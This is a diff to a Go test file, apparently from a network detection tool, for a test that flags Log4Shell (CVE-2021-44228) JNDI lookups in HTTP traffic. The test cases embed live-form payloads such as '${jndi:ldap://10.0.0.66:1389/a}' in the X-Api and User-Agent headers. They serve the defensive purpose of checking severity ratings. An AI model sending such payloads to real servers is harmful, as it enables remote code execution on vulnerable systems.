@@ -53,7 +53,9 @@ func TestWebAttacks(t *testing.T) {
 // TestLookupsOfJNDI has lookups in several fields, with and without a connection to what they name.
 func TestLookupsOfJNDI(t *testing.T) {
 	const sent = "10.0.0.1 sent a lookup of JNDI for ldap://10.0.0.66:1389 to 10.0.0.2 in 1 request (Log4Shell, CVE-2021-44228)"
-	get := func(headers string) string { return traffic.HTTP("GET / HTTP/1.1", strings.TrimSuffix("Host: a\r\n"+headers, "\r\n"), "") }
+	get := func(headers string) string {
+		return traffic.HTTP("GET / HTTP/1.1", strings.TrimSuffix("Host: a\r\n"+headers, "\r\n"), "")
+	}
 	for _, tt := range []struct{ name, request, back, want string }{
 		{"an attempt", get("X-Api: ${jndi:ldap://10.0.0.66:1389/a}\r\n"), "", "medium: " + sent + "; no connection to 10.0.0.66 was recorded within 5 minutes"},
 		{"a callback", get("User-Agent: ${jndi:ldap://10.0.0.66:1389/a}\r\n"), "10.0.0.66:1389", "high: " + sent + "; afterwards 10.0.0.2 connected to 10.0.0.66 at port 1389"},
